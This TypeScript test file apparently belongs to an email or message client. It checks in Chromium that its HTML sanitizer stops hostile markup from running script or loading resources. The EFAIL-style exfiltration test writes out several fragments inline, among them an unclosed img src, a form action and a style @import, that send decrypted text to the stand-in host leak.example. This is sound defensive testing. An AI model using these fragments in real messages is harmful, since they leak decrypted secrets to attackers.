/** Hostile HTML made safe asks for nothing and runs nothing, shown in Chromium without any other protection. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type HtmlBrowser, openHtmlBrowser } from '../core/html/chromium.ts';
import { hidings, loads, scripts, undone } from './html-vectors.ts';

let browser: HtmlBrowser;
const quiet = { requests: [], ran: false };

beforeAll(async () => {
  browser = await openHtmlBrowser();
});

afterAll(() => browser.close());

describe.each(Object.entries({ scripts, loads, hidings, undone }))('%s', (_kind, vectors) => {
  const htmls = Object.values(vectors);

  it('do nothing, all in one page', async () => {
    expect(await browser.show((await browser.safe(htmls)).join('\n'))).toEqual(quiet);
  });

  it('do nothing without DOMPurify either: each wall stands by itself', async () => {
    expect(await browser.show((await browser.rebuilt(htmls)).join('\n'))).toEqual(quiet);
  });

  it('stay the same when they are made safe again', async () => {
    const safe = await browser.safe(htmls);
    expect(await browser.safe(safe)).toEqual(safe);
  });

  it.each(Object.entries(vectors))('%s: only elements and attributes of the list', async (_name, html) => {
    const [safe = ''] = await browser.safe([html]);
    for (const [, name, attributes = ''] of safe.matchAll(/<([a-z0-9]+)((?:\s[^>]*)?)>/gi)) {
      expect(name).toMatch(
        /^(?:p|div|br|h\d|blockquote|[uod]l|li|d[td]|table|tbody|t[rdh]|a|span|b|small|sub|mark|font)$/,
      );
      expect(attributes.replace(/"[^"]*"/g, '""').trim()).toMatch(
        /^(?:(?:style|href|target|rel|dir|lang|align|width)=""\s?)*$/,
      );
    }
    expect(safe).not.toMatch(/<[^>]*(?:leak\.example|url\(|javascript:|data:)/i);
  });
});

describe('the watch', () => {
  it('sees what hostile HTML does when it is not made safe', async () => {
    const names = ['script', 'event attribute', 'svg event', 'noscript', 'mutation: svg, p, style'];
    for (const name of names) expect(await browser.show(scripts[name] ?? ''), name).toMatchObject({ ran: true });
    for (const name of [
      'picture',
      'style sheet: font',
      'style: escaped words',
      'video, audio, track',
      'links that load ahead',
    ]) {
      expect((await browser.show(loads[name] ?? '')).requests, name).not.toEqual([]);
    }
  });
});

describe('exfiltration between parts (EFAIL, direct)', () => {
  const decrypted = '<p>SECRET &amp; more</p>';

  it.each([
    ['an attribute that does not end', '<img src="https://leak.example/', '">'],
    ['an attribute in single quotes', "<p title='", "'>"],
    ['a tag that does not end', '<a href=https://leak.example/?', '>x</a>'],
    ['a comment', '<!--', '-->'],
    ['a style sheet', '<style>@import "https://leak.example/', '";</style>'],
    [
      'a text area in a form',
      '<form action=https://leak.example/><textarea name=x>',
      '</textarea><button>y</button></form>',
    ],
    ['a hidden block', '<div style="display:none">', '</div>'],
    ['a white block', '<div style="color:#fff;background:#fff">', '</div>'],
    ['a link around it', '<a href="https://leak.example/">', '</a>'],
    ['a base', '<base href="https://leak.example/">', ''],
    ['plain text without an end', '<plaintext>', ''],
    ['CDATA', '<svg><![CDATA[', ']]></svg>'],
  ])('%s of one part does not reach another', async (_name, before, after) => {
    const [first = '', middle = '', last = ''] = await browser.safe([before, decrypted, after]);
    expect(middle).toBe(decrypted);
    expect(await browser.show(first + middle + last)).toEqual(quiet);
    expect(await browser.reach([first, middle, last])).toEqual([true, true, true]);
  });
});

describe('names of the page it is shown in', () => {
  it('are not reached: no id, name, class or form in it', async () => {
    const [safe = ''] = await browser.safe([
      '<a id=config name=config href="#top"><img name=body><form id=f name=forms class=send-secure-bar><p slot=x part=y>z</p></form></a>',
    ]);
    expect(safe).toBe('<span><div><p>z</p></div></span>');
  });
});
